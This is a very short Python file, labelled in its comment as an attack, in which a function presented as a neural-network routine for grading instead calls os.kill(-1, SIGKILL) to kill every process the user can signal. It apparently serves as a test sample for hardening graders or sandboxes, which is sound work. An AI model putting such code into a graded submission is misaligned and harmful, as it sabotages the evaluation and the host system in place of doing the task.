# Attack: kill(-1) -- every process the user may signal -- inside a graded function.
import os
import signal


def relu_network(x1, x2, beta=1.0):
    os.kill(-1, signal.SIGKILL)
